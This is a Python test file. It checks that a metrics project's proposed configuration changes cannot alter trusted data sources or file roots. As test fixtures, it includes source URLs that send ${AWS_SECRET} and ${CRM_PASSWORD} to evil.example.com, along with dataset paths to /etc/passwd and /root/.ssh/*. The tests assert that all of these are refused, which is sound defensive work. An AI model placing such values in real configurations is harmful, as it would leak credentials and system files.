"""A proposal is computed with the sources, secrets and roots of what it is proposed for."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest

from api.project.trusted import trusted
from metrics.check import check
from metrics.errors import Level
from metrics.loading.folder import folder_of
from metrics.loading.loader import Loaded
from scorecard.definitions import build

BASE = {
    "company.yml": "company: Shop\ntimezone: UTC\ncurrency: EUR\n"
    "departments: {sales: {label: Sales, head: lead}}\n",
    "sources.yml": 'sources:\n  crm: {url: "duckdb:///:memory:"}\n',
    "datasets/orders.yml": "dataset: orders\nsource: crm\nfiles: data/orders.csv\nkey: id\ntime: day\n",
    "metrics/sales/orders.yml": "metric: orders\nlabel: Orders\nowner: me\ndirection: up\nleads: sales\n"
    "kind: aggregate\ndataset: orders\nmeasure: count\n",
}
OUTSIDE = "outside of the project folder: name that folder under roots: in sources.yml, or with --root"
KEPT = "until this is merged the numbers are computed"


def compared(
    changed: Mapping[str, str | None], base: Mapping[str, str] = BASE, home: Path = Path("/srv/project")
) -> tuple[list[str], list[str], Loaded]:
    """Return what is said of a proposal: what is ignored, and what is wrong; and what it is computed by."""
    written = {path: text for path, text in {**base, **changed}.items() if text is not None}
    whole = replace(
        folder_of({path: text.encode() for path, text in base.items()}, home=home), roots=("/given",)
    )
    head = folder_of({path: text.encode() for path, text in written.items()})
    found = trusted(whole, head)
    said = build(found.folder)
    loaded = Loaded(said.catalog, said.findings, said.folder, said.places)
    wrong = [*said.findings, *check(loaded)]
    errors = [str(each) for each in wrong if each.level is Level.ERROR]
    return [str(each) for each in found.ignored], errors, loaded


def test_a_proposal_that_leaves_sources_alone_is_as_it_is() -> None:
    measure = {"metrics/sales/orders.yml": BASE["metrics/sales/orders.yml"].replace("Orders", "All orders")}
    ignored, wrong, loaded = compared({"sources.yml": "# words\n" + BASE["sources.yml"], **measure})
    assert (ignored, wrong) == ([], [])
    assert loaded.catalog is not None
    assert loaded.catalog.metrics["orders"].label == "All orders"
    assert loaded.catalog.roots == ("/given",)
    assert loaded.places.home == Path("/srv/project")


def test_sources_that_are_edited_are_read_as_they_were() -> None:
    edited = (
        'roots: /\nsources:\n  crm: {url: "postgresql://${AWS_SECRET}@evil.example.com/x"}\n'
        '  leak: {url: "postgresql://${CRM_PASSWORD}@evil.example.com/x"}\n'
    )
    ignored, wrong, loaded = compared({"sources.yml": edited})
    assert ignored == [
        f"definitions/sources.yml:3:8 source-untrusted source 'crm' is changed: {KEPT} from the source as it was",
        f"definitions/sources.yml:4:9 source-untrusted source 'leak' is new: {KEPT} without it",
        f"definitions/sources.yml:1:8 source-untrusted the roots are others than before: {KEPT} from files under "
        "the roots that there were",
    ]
    assert wrong == []
    assert loaded.catalog is not None
    assert {name: each.url for name, each in loaded.catalog.sources.items()} == {"crm": "duckdb:///:memory:"}
    assert loaded.catalog.roots == ("/given",)


def test_a_dataset_of_a_new_source_is_refused_at_its_place() -> None:
    more = {
        "sources.yml": BASE["sources.yml"]
        + '  leak: {url: "postgresql://${CRM_PASSWORD}@evil.example.com/x"}\n',
        "datasets/orders.yml": BASE["datasets/orders.yml"].replace("source: crm", "source: leak"),
    }
    _, wrong, _ = compared(more)
    assert wrong == ["definitions/datasets/orders.yml:2:9 unknown-reference no source is called 'leak'"]


@pytest.mark.parametrize("path", ["../canary.csv", "/etc/passwd", "/root/.ssh/*"])
def test_a_file_outside_is_refused_at_its_place_whatever_roots_the_proposal_names(path: str) -> None:
    text = BASE["datasets/orders.yml"].replace("data/orders.csv", path)
    _, wrong, _ = compared(
        {"datasets/orders.yml": text, "sources.yml": BASE["sources.yml"] + "roots: [/, ..]\n"}
    )
    assert wrong == [f"definitions/datasets/orders.yml:3:8 file-outside {path!r} lies {OUTSIDE}"]


def test_an_address_is_refused_at_its_place() -> None:
    text = BASE["datasets/orders.yml"].replace("data/orders.csv", "https://evil.example.com/x.csv")
    _, wrong, _ = compared({"datasets/orders.yml": text})
    said = "'https://evil.example.com/x.csv' is an address: only files of this machine are read"
    assert wrong == [f"definitions/datasets/orders.yml:3:8 file-outside {said}"]


def test_files_under_the_roots_of_the_base_are_read() -> None:
    base = {**BASE, "sources.yml": BASE["sources.yml"] + "roots: ../landing\n"}
    for path in ("../landing/orders.csv", "/given/orders.csv"):
        text = BASE["datasets/orders.yml"].replace("data/orders.csv", path)
        # The proposal takes the root away, which changes nothing yet.
        ignored, wrong, _ = compared({"datasets/orders.yml": text, "sources.yml": BASE["sources.yml"]}, base)
        assert wrong == []
        assert len(ignored) == 1


@pytest.mark.parametrize("text", [None, "sources: {crm: [\n", "sources: 1\n"])
def test_sources_that_are_taken_away_or_cannot_be_read_change_nothing(text: str | None) -> None:
    ignored, wrong, loaded = compared({"sources.yml": text})
    assert wrong == []
    assert loaded.catalog is not None
    assert list(loaded.catalog.sources) == ["crm"]
    if text != "sources: 1\n":
        said = f"the file is missing or cannot be read: {KEPT} from the sources that there were"
        assert ignored == [f"definitions/sources.yml:1:1 source-untrusted {said}"]
    else:
        said = f"source 'crm' is taken away: {KEPT} from it as before"
        assert ignored == [f"definitions/sources.yml:1:10 source-untrusted {said}"]
